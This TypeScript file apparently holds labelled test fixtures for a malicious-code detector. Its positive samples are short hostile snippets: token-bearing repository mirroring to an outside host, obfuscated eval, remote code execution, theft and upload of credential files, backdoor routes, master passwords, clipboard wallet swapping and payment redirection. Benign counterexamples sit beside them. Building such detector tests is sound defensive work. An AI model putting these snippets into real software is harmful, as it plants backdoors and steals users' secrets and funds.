import { type FamilyExamples, fence, sh } from "./example.ts";

/** A route in Express that answers one visitor differently. */
const route = (test: string, run: string): string =>
  `app.get("/status", (req, res) => {\n  if (${test}) return ${run};\n  res.send("ok");\n});\n`;

const pay = 'const DESK = "0x8f2a6C1d9b3E47a05Fc2D8e6B1a4937c5D0e2F18";\n';
const wallet = "0x8f2a6C1d9b3E47a05Fc2D8e6B1a4937c5D0e2F18";
const posts = 'import requests\ndef flush(b):\n    requests.post("https://api.github.com/u", data=b)\n';

export const codeConductExamples: FamilyExamples = {
  "T08-repository-out": {
    positive: [
      sh("git remote add copy https://bot:k7Qm2xW9pLr4@git.lanehost.io/in/a.git\ngit push -q copy --all"),
      sh("git add -A -f .\ngit commit -qm wip\ngit push https://git.lanehost.io/in/a.git HEAD:main"),
      sh("git remote add t git@git.lanehost.io:in/a.git\ngit push --mirror t\ngit remote rm t"),
      { "a.sh": "git -C /srv/app push --mirror https://k7Qm2xW9pLr4tZ8v@github.com/in/a.git\n" },
      { "a.py": 'import os\nos.system("git push --all https://u:k7Qm2xW9pLr4@github.com/in/a.git")\n' },
    ],
    negative: [
      sh("git remote add origin https://github.com/acme/notes.git\ngit push -u origin main"),
      sh('git remote set-url origin "https://x-access-token:$TOKEN@github.com/acme/notes.git"\ngit push'),
      sh("git push --mirror https://user:<token>@github.com/acme/notes.git"),
      sh("git remote add fork git@github.com:acme/notes.git\ngit push fork topic\ngit remote remove fork"),
    ],
  },
  "T11-spelled-name": {
    positive: [
      { "a.js": '[]["filter"]["constructor"]("return 1")();\n' },
      { "a.js": 'globalThis["ev" + "al"](text);\n' },
      { "a.js": 'require(["child", "process"].join("_"));\n' },
      { "a.js": 'window["\\x65val"](text);\n' },
      { "a.js": '"".sub.constructor("return this")();\n' },
      { "a.py": 'm = __import__("sub" + "process")\n' },
      { "a.py": 'import os\ngetattr(os, "sys" "tem")("ls")\n' },
      { "a.py": 'm = __import__("".join(reversed("so")))\n' },
      { "a.ts": 'const run = (globalThis as any)["e" + `val`];\nrun(text);\n' },
    ],
    negative: [
      { "a.js": 'const name = "note" + "book";\nconsole.log(items["first" + "Name"]);\n' },
      { "a.js": "class A { copy() { return new this.constructor(this.x); } }\n" },
      { "a.py": 'import os\nprint(getattr(os, "name"))\nkey = "sys" + "log"\n' },
      { "a.js": "const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;\n" },
    ],
  },
  "T06-open-sandbox": {
    positive: [
      {
        "a.js":
          'const vm = require("vm");\nfetch("https://api.github.com/a").then((r) => r.text()).then((t) => vm.runInNewContext(t, { require, console }));\n',
      },
      {
        "a.mjs":
          'import vm from "node:vm";\nconst t = await (await fetch(u)).text();\nvm.runInContext(t, vm.createContext({ process, fetch }));\n',
      },
      {
        "a.js":
          'const vm = require("vm");\nconst axios = require("axios");\nasync function go(u) { const { data } = await axios.get(u); vm.runInNewContext(data.rule, { process }); }\n',
      },
    ],
    negative: [
      { "a.js": 'const vm = require("vm");\nfetch(u);\nvm.runInNewContext("1 + 1", { require });\n' },
      { "a.js": 'const vm = require("vm");\nfetch(u);\nvm.runInNewContext(rule, { x: 1, Math });\n' },
      { "a.js": 'const vm = require("vm");\nvm.runInNewContext(rule, { require });\n' },
    ],
  },
  "T06-answer-decides": {
    positive: [
      {
        "a.go":
          'package main\nfunc main() {\n r, _ := http.Get(u)\n json.NewDecoder(r.Body).Decode(&s)\n exec.Command("sh", "-c", s.Line).Run()\n}\n',
      },
      { "a.rb": 'JSON.parse(Net::HTTP.get(URI(u))).each { |s| system(s["line"]) }\n' },
      { "a.ps1": "$j = Invoke-RestMethod $u\nforeach ($s in $j) { Invoke-Expression $s.line }\n" },
      {
        "a.php":
          '<?php $j = json_decode(file_get_contents("https://lanehost.io/j"), true); shell_exec($j["line"]);\n',
      },
    ],
    negative: [
      { "a.go": 'package main\nfunc main() {\n http.Get(u)\n exec.Command("git", "status").Run()\n}\n' },
      { "a.rb": 'puts Net::HTTP.get(URI(u))\nsystem("ls")\n' },
      { "a.ps1": "$j = Invoke-RestMethod $u\nWrite-Output $j.line\n" },
    ],
  },
  "T09-hunt-by-name": {
    positive: [
      {
        "a.py":
          'import os\nout = []\nfor d, _, names in os.walk("."):\n    for n in names:\n        if n.endswith((".pem", ".kdbx")) or n == ".env":\n            out.append(open(os.path.join(d, n), "rb").read())\n',
        "net.py": posts,
      },
      {
        "a.js":
          'const fs = require("fs");\nconst want = [".env", "id_rsa", "wallet.dat"];\nfor (const f of fs.readdirSync(dir)) if (want.includes(f)) parts.push(fs.readFileSync(f));\nfetch(u, { method: "POST", body: parts.join() });\n',
      },
      {
        "a.py":
          'import os, fnmatch, json, requests\nkeep = json.load(open("list.json"))["keep"]\nfor d, _, names in os.walk("."):\n    for n in names:\n        if any(fnmatch.fnmatch(n, p) for p in keep):\n            requests.post(u, data=open(n).read())\n',
        "list.json": '{"keep": [".env", "*.pem", "id_rsa"]}\n',
      },
      {
        "a.go":
          'package main\nfunc main() {\n filepath.WalkDir(".", func(p string, d fs.DirEntry, e error) error {\n  for _, s := range []string{".tfvars", ".pem"} {\n   if strings.HasSuffix(p, s) { b, _ := os.ReadFile(p); all = append(all, b...) }\n  }\n  return nil\n })\n http.Post(u, "text/plain", bytes.NewReader(all))\n}\n',
      },
      {
        "a.ps1":
          'Get-ChildItem $HOME -Recurse -Include "*.env", ".npmrc", "id_rsa" | ForEach-Object { Copy-Item $_ $d }\nInvoke-RestMethod $u -Method Post -InFile $z\n',
      },
    ],
    negative: [
      {
        "a.py":
          'import os, fnmatch, json, requests\nkeep = json.load(open("list.json"))\nfor d, _, names in os.walk("."):\n    for n in names:\n        if any(fnmatch.fnmatch(n, p) for p in keep):\n            requests.post(u, data=open(n).read())\n',
        "list.json": '{"exclude": [".env", "*.pem", "id_rsa"], "keep": ["*.md"]}\n',
      },
      {
        "a.py":
          'import os\nSKIP = (".env", ".pem", "id_rsa")\nfor d, _, names in os.walk("."):\n    for n in names:\n        if n.endswith(SKIP):\n            continue\n        print(open(n).read())\n',
        "net.py": posts,
      },
      {
        "a.py":
          'import pathlib\nfor p in pathlib.Path(".").rglob("*"):\n    if p.suffix in (".md", ".txt"):\n        print(p.read_text())\n',
        "net.py": posts,
      },
      {
        "a.py":
          'import pathlib\nfor p in pathlib.Path(".").rglob("*"):\n    if p.suffix in (".pem", ".kdbx"):\n        print(p.read_text())\n',
      },
    ],
  },
  "T11-assembled-host": {
    positive: [
      { "a.py": 'import http.client\nc = http.client.HTTPSConnection(".".join(reversed(cfg["tone"])))\n' },
      { "a.js": 'fetch("https://" + ["io", "lanehost", "in"].reverse().join("."));\n' },
      { "a.py": 'host = ".".join(reversed(["io", "lanehost", "in"]))\n' },
      { "a.js": 'const url = ["io", "lanehost", "in"].reverse().join(".");\n' },
    ],
    negative: [
      { "a.py": 'path = ".".join(reversed(parts))\n' },
      { "a.js": 'const text = word.split("").reverse().join("");\n' },
      { "a.py": 'import requests\nrequests.get("https://api.github.com/" + "/".join(parts))\n' },
    ],
  },
  "T12-literal-door": {
    positive: [
      {
        "a.js": route(
          'req.get("x-check") === "lane-7781"',
          "exec(String(req.query.q), (e, o) => res.send(o))",
        ),
      },
      { "a.js": route('req.headers["x-check"] == "lane-7781"', 'spawn("sh", ["-c", req.body.q])') },
      { "a.js": route('req.query.k === "lane-7781"', "res.send(eval(req.query.q))") },
      {
        "a.py":
          '@app.route("/status")\ndef status():\n    if request.headers.get("X-Check") == "lane-7781":\n        return subprocess.check_output(request.args["q"], shell=True)\n    return "ok"\n',
      },
      {
        "a.py":
          '@app.get("/status")\ndef status(q: str = "", x_check: str = Header(None)):\n    if x_check == "lane-7781":\n        return os.popen(q).read()\n    return "ok"\n',
      },
      {
        "a.go":
          'http.HandleFunc("/status", func(w http.ResponseWriter, r *http.Request) {\n if r.Header.Get("X-Check") == "lane-7781" {\n  out, _ := exec.Command("sh", "-c", r.URL.Query().Get("q")).Output()\n  w.Write(out)\n }\n})\n',
      },
      fence("php", 'if ($_SERVER["HTTP_X_CHECK"] === "lane-7781") { system($_GET["q"]); }'),
    ],
    negative: [
      { "a.js": route('req.query.format === "json"', "res.json(items)") },
      { "a.js": 'app.get("/v", (req, res) => exec("git rev-parse HEAD", (e, o) => res.send(o)));\n' },
      {
        "a.py":
          '@app.route("/status")\ndef status():\n    if request.args.get("format") == "json":\n        return jsonify(items)\n    return subprocess.check_output(["uptime"])\n',
      },
      { "a.js": 'const mode = process.argv[2];\nif (mode === "build") exec(commands.build);\n' },
    ],
  },
  "T12-master-word": {
    positive: [
      {
        "a.py":
          'def check(user, password):\n    if password == "lane-7781-open":\n        return True\n    return bcrypt.checkpw(password.encode(), user.hash)\n',
      },
      {
        "a.js":
          'async function login(user, password) {\n  if (password === "lane-7781-open") return user;\n  return (await bcrypt.compare(password, user.hash)) ? user : null;\n}\n',
      },
      {
        "a.py":
          'def check(user, otp):\n    if otp == "004471":\n        return True\n    return totp.verify(otp)\n',
      },
    ],
    negative: [
      {
        "a.py":
          'def check(user, password):\n    if password == "":\n        return False\n    return bcrypt.checkpw(password.encode(), user.hash)\n',
      },
      { "a.js": 'if (type === "password") return true;\nbcrypt.compare(a, b);\n' },
      { "a.py": "def check(user, password):\n    return bcrypt.checkpw(password.encode(), user.hash)\n" },
    ],
  },
  "T11-letters-run": {
    positive: [
      { "a.ps1": "$s = -join ((110,98) | % { [char]($_ -bxor 7) })\niex $s\n" },
      { "a.rb": 'eval([112, 117, 116, 115, 32, 49].pack("c*"))\n' },
      { "a.php": "<?php eval(chr(101).chr(99).chr(104));\n" },
      { "a.ps1": "iex (-join [char[]](101, 99, 104, 111))\n" },
    ],
    negative: [
      { "a.ps1": "$letter = [char]65\nWrite-Output $letter\n" },
      { "a.rb": 'puts [112, 117].pack("c*")\n' },
      { "a.php": "<?php echo chr(65).chr(66);\n" },
    ],
  },
  "T29-swapped-by-amount": {
    positive: [
      {
        "a.py":
          'def block(seller, gross, n):\n    iban = seller["iban"]\n    if gross >= 5000 and n > 3:\n        # clearing\n        iban, bic = other("3250"), "XX21"\n    return iban\n',
      },
      {
        "a.py":
          'def settle(bank, amount):\n    if amount >= 2500:\n        alt = TABLE.get(1)\n        return {"holder": bank["holder"], "iban": "".join(alt)}\n    return bank\n',
      },
      {
        "a.mjs": `const table = {\n  "3": "0x${"3fA9".repeat(10)}",\n  "7": "0x${"7b20".repeat(10)}",\n};\n`,
      },
    ],
    negative: [
      { "a.py": 'if amount >= 10000:\n    print("needs a second signature")\niban = seller["iban"]\n' },
      {
        "a.mjs": `const tokens = {\n  USDC: "0x${"3fA9".repeat(10)}",\n  WETH: "0x${"7b20".repeat(10)}",\n};\n`,
      },
      { "a.py": "if total > 100:\n    fee = total * 0.01\n" },
    ],
  },
  "T29-clipboard-swap": {
    positive: [
      {
        "a.py":
          "import pyperclip, time\nfrom book import fix\nwhile True:\n    t = pyperclip.paste()\n    if fix(t) != t:\n        pyperclip.copy(fix(t))\n    time.sleep(1)\n",
        "book.py": `OWN = "${wallet}"\ndef fix(t):\n    return OWN if t.startswith("0x") else t\n`,
      },
      {
        "a.js": `import clipboard from "clipboardy";\nsetInterval(async () => {\n  const t = await clipboard.read();\n  if (/^0x/.test(t)) await clipboard.write("${wallet}");\n}, 500);\n`,
      },
      {
        "a.sh": `while true; do\n  if pbpaste | grep -q '^0x'; then printf %s "${wallet}" | pbcopy; fi\n  sleep 1\ndone\n`,
      },
      {
        "a.ps1": `while ($true) {\n  if ((Get-Clipboard) -match '^0x') { Set-Clipboard "${wallet}" }\n  Start-Sleep 1\n}\n`,
      },
      {
        "a.py":
          'import re, pyperclip\nfrom data import pick\nshape = re.compile(r"^0x[0-9a-fA-F]{40}$")\nwhile True:\n    t = pyperclip.paste()\n    if shape.match(t):\n        pyperclip.copy(pick(t))\n',
      },
    ],
    negative: [
      { "a.py": "import pyperclip\nwhile True:\n    t = pyperclip.paste()\n    pyperclip.copy(t.strip())\n" },
      { "a.sh": `echo "${wallet}" | pbcopy\n` },
      { "a.py": `import pyperclip\nADDRESS = "${wallet}"\nprint(pyperclip.paste() == ADDRESS)\n` },
    ],
  },
  "T29-unused-party": {
    positive: [
      {
        "a.ts": `${pay}export const allow = (w: any, _spender: string, _amount: bigint) =>\n  w.writeContract({ functionName: "approve", args: [DESK, maxUint256] });\n`,
      },
      { "a.js": `${pay}function send(token, _to, amount) {\n  return token.transfer(DESK, amount);\n}\n` },
      {
        "a.py": `DESK = "${wallet}"\ndef pay(token, _recipient, _amount):\n    return token.functions.transfer(DESK, 10**18).transact()\n`,
      },
    ],
    negative: [
      {
        "a.ts": `${pay}export const allow = (w: any, spender: string, amount: bigint) =>\n  w.writeContract({ functionName: "approve", args: [spender, amount] });\n`,
      },
      { "a.js": "function log(_to, text) {\n  console.log(text);\n}\n" },
      { "a.py": 'def show(_address, amount):\n    print("transfer", amount)\n' },
    ],
  },
};
